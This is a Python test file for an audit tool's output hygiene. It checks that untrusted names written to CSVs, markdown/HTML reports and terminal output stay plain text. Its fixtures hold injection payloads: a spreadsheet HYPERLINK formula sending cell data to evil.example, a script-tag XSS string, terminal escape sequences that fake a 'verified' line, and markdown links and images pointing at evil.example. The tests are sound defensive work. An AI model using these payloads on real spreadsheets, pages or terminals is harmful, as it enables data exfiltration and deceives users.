"""Output hygiene (issue 19 item 6): a stranger's names reach our CSVs, reports and terminal as text only.

Every CSV we write quotes text cells a spreadsheet would run as a formula (numbers stay numbers); report.md
and report.html escape every name; every line printed makes control characters visible."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from spec_audits.base.terminal import visible
from spec_audits.cli import main
from spec_audits.contract.writer import suite_row
from spec_audits.families.influence.score.synthetic import Design, write_run
from spec_audits.families.influence.score.synthetic import write_suite as write_influence_suite
from spec_audits.runner.files_out import csv_cell, read_csv, write_csv
from spec_audits.runner.report.markdown import text
from tests.support import write_suite

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>alert(1)</script>"
ESCAPE = "gen\x1b[2J\x1b[Hder"  # clears the screen and homes the cursor
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(path: Path) -> list[str]:
    """Every cell of a CSV a spreadsheet would read as a formula (a plain number is not one)."""
    cells = [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for cell in row]
    return [c for c in cells if c.startswith(TRIGGERS) and not re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", c)]


def _invoke(*args: object) -> str:
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exit_code == 0 and result.exception is None, result.output
    return result.output


def test_formula_cells_are_quoted_numbers_kept_and_our_readers_restore_the_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=level": [FORMULA, "+1 555", "-x", "@SUM(A1)", "\tcmd", "'quoted", "-0.5", "plain"],
                          "value": [-1.5, 2, 3, 4, 5, 6, 7, 8]})
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows[0] == ["'=level", "value"]
    assert [r[0] for r in rows[1:]] == ["'" + FORMULA, "'+1 555", "'-x", "'@SUM(A1)", "'\tcmd", "''quoted", "-0.5",
                                        "plain"]
    assert rows[1][1] == "-1.5"  # a number is never quoted
    assert csv_cell(-3) == -3 and csv_cell("-3e5") == "-3e5"
    back = read_csv(path, keep_default_na=False)
    assert back.columns.tolist() == ["=level", "value"] and back["=level"].tolist() == frame["=level"].tolist()
    assert not (tmp_path / "t.csv.partial").exists()


def _hostile_suite(folder: Path) -> Path:
    """Two rows whose cells, answers and prompts carry a formula, a script and terminal escapes."""
    rows = [suite_row({"messages": [{"role": "user", "content": f"Pick one.\x1b[2J\nA or B? ({i})"}], "samples": 1,
                       "cell": {"influence": [FORMULA, "@sum"][i], "order": ESCAPE},
                       "answers": {"A": SCRIPT, "B": "-b"}, "decode": {"temperature": 1.0, "max_tokens": 2}})
            for i in range(2)]
    return write_suite(folder, rows)


@pytest.fixture(scope="session")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A scored influence run whose groups, factors and influences are a formula, a script and escapes."""
    base = tmp_path_factory.mktemp("hostile")
    design = Design(factors={SCRIPT: (FORMULA, "old"), ESCAPE: ("m", "f")}, influences=("$\\foo$", "@sum"))
    rows = write_influence_suite(base / "suite", design)
    write_run(base / "run", base / "suite", rows, lambda f, i, c: 0.3 if c == "toward_A" else 0.6)
    return base / "run"


def test_scores_and_report_of_a_hostile_suite_hold_its_names_as_text(hostile_run: Path) -> None:
    printed = _invoke("score", hostile_run, "--bootstrap", "50")
    score = hostile_run / "score"
    conditions = score / "conditions.csv"
    assert _formula_cells(conditions) == []
    assert "'" + FORMULA.replace('"', '""') in conditions.read_text(encoding="utf-8")
    by_factor = json.loads((score / "summary.json").read_text())["benchmarks"]["triage"]["by"]["factor"]
    assert by_factor.keys() == {SCRIPT, ESCAPE}  # JSON holds the names as they are: data, not a spreadsheet
    printed += _invoke("report", score)  # a name with $...$ in a plot label is text, not TeX
    html, md = (score / "report.html").read_text(), (score / "report.md").read_text()
    assert "\x1b" not in html + md + printed
    assert "| gen\\\\x1b[2J\\\\x1b[Hder |" in md and "<td>gen\\x1b[2J\\x1b[Hder</td>" in html
    assert "| \\<script>alert(1)\\</script> |" in md and "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in html
    assert "<script>" not in html and "| @sum |" in md and "| \\$\\\\foo\\$ |" in md


def test_markdown_escapes_what_would_be_markup_and_leaves_plain_text_readable() -> None:
    assert text(SCRIPT) == "\\<script>alert(1)\\</script>"
    assert text("[click](http://evil.example)") == "\\[click\\](http://evil.example)"
    assert text("![x](http://evil.example/t.png)") == "![x\\](http://evil.example/t.png)"
    assert text("- a\n# b") == "\\- a \\# b"  # one line: no list, no heading
    assert text("a|b `c` *d* _e_ $f$") == "a\\|b \\`c\\` \\*d\\* \\_e\\_ \\$f\\$"
    assert text("few_shot_3 [30.1, 95.4] -0.5 21.4 p") == "few_shot_3 [30.1, 95.4] -0.5 21.4 p"


def test_csv_export_and_counts_outputs_quote_formula_names(tmp_path: Path) -> None:
    exported = tmp_path / "suite.csv"
    _invoke("export", _hostile_suite(tmp_path / "suite"), "--to", "csv", "-o", exported)
    assert _formula_cells(exported) == []
    assert "'" + FORMULA.replace('"', '""') in exported.read_text(encoding="utf-8")
    counts = tmp_path / "counts.csv"
    model = FORMULA.replace('"', '""')
    counts.write_text("benchmark,model,factor,influence,group_A,group_B,c_0_A,c_0_B,c_A_A,c_A_B,c_B_A,c_B_B\n"
                      f'triage,"{model}",age,@SUM(1),-young,+old,5,5,8,2,3,7\n'
                      f'triage,"{model}",age,emotional,-young,+old,6,4,9,1,2,8\n', encoding="utf-8")
    _invoke("score", "--counts", counts, "-o", tmp_path / "scored", "--bootstrap", "20")
    written = tmp_path / "scored" / "conditions.csv"
    assert _formula_cells(written) == []
    assert read_csv(written, keep_default_na=False)["model"].tolist() == [FORMULA, FORMULA]


def test_terminal_lines_show_control_characters_and_cannot_fake_a_line(tmp_path: Path) -> None:
    assert visible("a\x1b[2Jb\nverified: all sound\r\u202eX") == "a\\x1b[2Jb\\nverified: all sound\\r\\u202eX"
    assert visible("line one\nline\x07 two", keep_newlines=True) == "line one\nline\\x07 two"
    cells = tmp_path / "cells.csv"
    cells.write_text("model,target_bias,human_bias,n,mean_delta,std_delta\n"
                     '"m\x1b[2J\nall sound",A,A,3,0.1,0.2\n"m\x1b[2J\nall sound",A,B,3,0.2,0.1\n', encoding="utf-8")
    printed = _invoke("score", "--cells", cells, "-o", tmp_path / "out")
    assert "\x1b" not in printed and printed.splitlines()[0].startswith("m\\x1b[2J\\nall sound: pooled")
    shown = _invoke("show", _hostile_suite(tmp_path / "suite"), "-n", "2")
    assert "\x1b" not in shown
    assert "Pick one.\\x1b[2J\nA or B? (0)" in shown  # the prompt keeps its own line break
    assert "order=gen\\x1b[2J\\x1b[Hder" in shown


def test_exporting_a_strangers_suite_shows_its_name_with_escapes(tmp_path: Path) -> None:
    suite = _hostile_suite(tmp_path / "suite")
    manifest = json.loads((suite / "manifest.json").read_text(encoding="utf-8"))
    manifest["suite"] = "x\x1b[2J\x1b[Hverified: all sound\r"  # the manifest is not hashed: anyone may edit it
    (suite / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    printed = _invoke("export", suite, "--to", "csv", "-o", tmp_path / "rows.csv")
    assert printed == f"exported 2 rows of x\\x1b[2J\\x1b[Hverified: all sound\\r for csv -> {tmp_path / 'rows.csv'}\n"


def test_a_strangers_spec_cannot_reach_the_terminal_through_its_diagnostics(tmp_path: Path) -> None:
    spec = tmp_path / "hostile.spec"
    spec.write_text('suite tiny "T"\nseed 1\nfactor co\x1b[2Jlor:\n  A red "r" / "r"\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["check", str(spec)])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
    assert "\x1b" not in result.output and "co\\x1b[2Jlor" in result.output
